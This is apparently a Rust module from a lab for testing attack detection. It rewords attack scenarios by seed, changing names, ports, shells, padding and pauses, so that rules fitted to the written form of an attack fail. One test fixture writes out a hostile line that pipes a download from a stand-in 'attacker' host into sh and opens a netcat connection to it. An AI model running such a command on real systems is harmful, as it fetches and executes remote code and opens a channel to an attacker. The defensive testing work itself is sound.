//! `--shuffle SEED`: the scenarios in another order, each in another wording: other file names, ports and shells, longer
//! command lines, pauses. The same seed words the same scenario alike, whatever else is played. A rule that was fitted to
//! the written form of a scenario fails here.

mod names;
mod padding;
mod ports;
mod shells;
mod sleeps;
mod text;

use super::file::Scenario;
use crate::lab::services::Ports;
use std::time::Duration;

/// Longest pause before a run.
const LONGEST_PAUSE_MS: u64 = 400;

/// Further time for what was put into a run.
const FURTHER_S: u64 = 3;

/// SplitMix64 (Steele, Lea, Flood 2014): small, seedable, good enough to shuffle with.
#[derive(Clone, Debug)]
pub struct Random(u64);

impl Random {
    /// A generator for `seed`.
    pub fn new(seed: u64) -> Self {
        Self(seed)
    }

    /// A generator for one thing of those that `seed` decides.
    fn of(seed: u64, thing: &str) -> Self {
        // FNV-1a (Fowler, Noll, Vo).
        let hash = thing
            .bytes()
            .fold(0xcbf2_9ce4_8422_2325, |hash: u64, byte| (hash ^ u64::from(byte)).wrapping_mul(0x0100_0000_01b3));
        Self(Self(seed).next() ^ hash)
    }

    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }

    fn below(&mut self, bound: u64) -> u64 {
        self.next() % bound.max(1)
    }

    /// One time in `n`.
    fn once_in(&mut self, n: u64) -> bool {
        self.below(n) == 0
    }

    fn one_of<'a, T: ?Sized>(&mut self, items: &[&'a T]) -> Option<&'a T> {
        let at = usize::try_from(self.below(items.len() as u64)).unwrap_or(0);
        items.get(at).copied()
    }

    /// Puts `items` into another order (Fisher and Yates).
    pub fn shuffle<T>(&mut self, items: &mut [T]) {
        for i in (1..items.len()).rev() {
            let j = usize::try_from(self.below(i as u64 + 1)).unwrap_or(0);
            items.swap(i, j);
        }
    }

    /// `length` letters.
    fn word(&mut self, length: usize) -> String {
        (0..length).map(|_| char::from(b'a' + u8::try_from(self.below(26)).unwrap_or(0))).collect()
    }
}

/// The ports of a run with `seed`.
pub fn ports(seed: u64) -> Ports {
    let mut random = Random::of(seed, "ports");
    // Below 32768: Linux gives a connection that asks for none a port above.
    Ports::with_others(|| u16::try_from(random.below(32768)).unwrap_or(0))
}

/// Words `scenario` anew; how long to wait before it is played.
pub fn vary(scenario: &mut Scenario, seed: u64, repeat: u32, others: &Ports) -> Duration {
    let random = &mut Random::of(seed, &format!("{} {repeat}", scenario.id));
    names::change(scenario, random);
    ports::change(scenario, random, others);
    shells::change(scenario, random);
    padding::add(scenario, random);
    sleeps::add(scenario, random);
    shells::wrap(scenario, random);
    scenario.timeout_s += FURTHER_S;
    Duration::from_millis(random.below(LONGEST_PAUSE_MS))
}

#[cfg(test)]
mod tests {
    #![expect(clippy::unwrap_used, reason = "tests")]
    use super::super::file::parse;
    use super::*;

    fn scenario(run: &str, effect: &str) -> Scenario {
        let text = format!("[[scenario]]\nid='a'\nimage='x'\nrun='''{run}'''\neffect='{effect}'\n");
        parse(&text).unwrap().remove(0)
    }

    #[test]
    fn the_same_seed_gives_the_same_order() {
        let order = |seed| {
            let mut items: Vec<u32> = (0..20).collect();
            Random::new(seed).shuffle(&mut items);
            items
        };
        assert_eq!(order(1), order(1));
        assert_ne!(order(1), order(2));
        let mut sorted = order(3);
        sorted.sort_unstable();
        assert_eq!(sorted, (0..20).collect::<Vec<_>>());
    }

    #[test]
    fn a_scenario_is_worded_alike_whatever_is_played_besides() {
        let worded = |seed, repeat| {
            let mut one = scenario("curl -s http://attacker:8080/a | sh; sleep 1; nc attacker 4444", "");
            vary(&mut one, seed, repeat, &ports(seed));
            one.run
        };
        assert_eq!(worded(1, 1), worded(1, 1));
        assert_ne!(worded(1, 1), worded(2, 1));
        assert_ne!(worded(1, 1), worded(1, 2));
    }
}
